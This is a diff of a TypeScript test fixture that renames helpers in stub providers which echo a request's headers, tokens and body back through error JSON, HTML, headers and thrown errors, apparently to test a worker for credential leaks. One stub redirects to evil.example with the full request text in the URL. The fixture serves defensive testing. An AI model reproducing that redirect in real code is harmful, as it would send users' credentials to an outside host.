@@ -1,10 +1,10 @@
-import { json } from './stub-fetch.ts'
+import { jsonResponse } from './stub-fetch.ts'
 
 /** A provider, or something before it, that gives back all that it was sent: address, headers and body. */
 export type Echo = (request: Request, body: string) => Response | Promise<Response>
 
 /** A copy of a request's body. Not `text()`: workerd warns of that where the type is a form's. */
-export async function bodyOf(request: Request): Promise<string> {
+export async function readBody(request: Request): Promise<string> {
   return new TextDecoder().decode(await request.clone().arrayBuffer())
 }
 
@@ -12,7 +12,7 @@ export async function bodyOf(request: Request): Promise<string> {
 const STATUSES = [400, 401, 402, 403, 404, 409, 418, 422, 423, 429, 500, 502, 503, 504]
 
 /** What it was sent, as one text and as its parts: a part alone may look like a name. */
-function sent(request: Request, body: string): { all: string; parts: string[] } {
+function requestText(request: Request, body: string): { all: string; parts: string[] } {
   const values = [...request.headers].map(([, value]) => value)
   const fields = [...new URLSearchParams(body)].map(([, value]) => value)
   const tokens = values.map((value) => value.replace(/^Bearer /, ''))
@@ -21,8 +21,8 @@ function sent(request: Request, body: string): { all: string; parts: string[] } 
 }
 
 /** Every quotation a JSON body can hold: as a value, a key, a field, a fault. */
-function quoting(request: Request, body: string): object {
-  const { all, parts } = sent(request, body)
+function echoBody(request: Request, body: string): object {
+  const { all, parts } = requestText(request, body)
   return {
     error: all,
     error_description: all,
@@ -37,7 +37,7 @@ function quoting(request: Request, body: string): object {
 }
 
 /** The text as a header may hold it. */
-function headerText(text: string): string {
+function toHeaderValue(text: string): string {
   return text.replaceAll(/[^\x20-\x7e]/g, ' ').trim()
 }
 
@@ -45,15 +45,18 @@ function headerText(text: string): string {
 export const ECHOES: readonly (readonly [name: string, echo: Echo])[] = [
   ...STATUSES.map(
     (status) =>
-      [`${status} in JSON`, (request: Request, body: string) => json(quoting(request, body), { status })] as const,
+      [
+        `${status} in JSON`,
+        (request: Request, body: string) => jsonResponse(echoBody(request, body), { status }),
+      ] as const,
   ),
   ...STATUSES.map(
     (status) =>
       [
         `${status} in HTML and headers`,
         (request: Request, body: string) => {
-          const { all } = sent(request, body)
-          const text = headerText(all)
+          const { all } = requestText(request, body)
+          const text = toHeaderValue(all)
           const headers = { 'www-authenticate': `Bearer error="${text}"`, 'x-echo': text, 'retry-after': text }
           return new Response(`<html><p>${all}</html>`, {
             status,
@@ -67,18 +70,21 @@ export const ECHOES: readonly (readonly [name: string, echo: Echo])[] = [
     (request, body) =>
       new Response(null, {
         status: 302,
-        headers: { location: `https://evil.example/?${encodeURIComponent(sent(request, body).all)}` },
+        headers: { location: `https://evil.example/?${encodeURIComponent(requestText(request, body).all)}` },
       }),
   ],
-  ['200 in HTML', (request, body) => new Response(`<html>${sent(request, body).all}</html>`)],
-  ['200 with a text for JSON', (request, body) => new Response(sent(request, body).all)],
-  ['200 with JSON of another shape', (request, body) => json(quoting(request, body))],
-  ['200 with JSON cut short', (request, body) => new Response(JSON.stringify(quoting(request, body)).slice(0, -9))],
-  ['200 with lists of it', (request, body) => json({ calendars: [{ calendar_id: [sent(request, body).all] }] })],
+  ['200 in HTML', (request, body) => new Response(`<html>${requestText(request, body).all}</html>`)],
+  ['200 with a text for JSON', (request, body) => new Response(requestText(request, body).all)],
+  ['200 with JSON of another shape', (request, body) => jsonResponse(echoBody(request, body))],
+  ['200 with JSON cut short', (request, body) => new Response(JSON.stringify(echoBody(request, body)).slice(0, -9))],
+  [
+    '200 with lists of it',
+    (request, body) => jsonResponse({ calendars: [{ calendar_id: [requestText(request, body).all] }] }),
+  ],
   [
     'a failed connection that tells all',
     (request, body) => {
-      const { all } = sent(request, body)
+      const { all } = requestText(request, body)
       const cause = Object.assign(new Error(all), { headers: request.headers, request, config: { data: body } })
       throw Object.assign(new TypeError(`fetch failed: ${all}`, { cause }), { request, response: { data: all } })
     },
@@ -88,14 +94,14 @@ export const ECHOES: readonly (readonly [name: string, echo: Echo])[] = [
     (request, body) =>
       new Response(
         new ReadableStream({
-          pull: (controller) => controller.error(new TypeError(`terminated: ${sent(request, body).all}`)),
+          pull: (controller) => controller.error(new TypeError(`terminated: ${requestText(request, body).all}`)),
         }),
       ),
   ],
-  ['something thrown that is no error', (request, body) => Promise.reject(sent(request, body))],
+  ['something thrown that is no error', (request, body) => Promise.reject(requestText(request, body))],
 ]
 
 /** One of each kind, and the statuses that the worker treats in ways of their own: where a walk takes many steps. */
-export const KINDS: typeof ECHOES = ECHOES.filter(
+export const ECHO_SAMPLES: typeof ECHOES = ECHOES.filter(
   ([name]) => !/^\d+ in (JSON|HTML)/.test(name) || /^(401|422|500) in JSON|^403 in HTML/.test(name),
 )
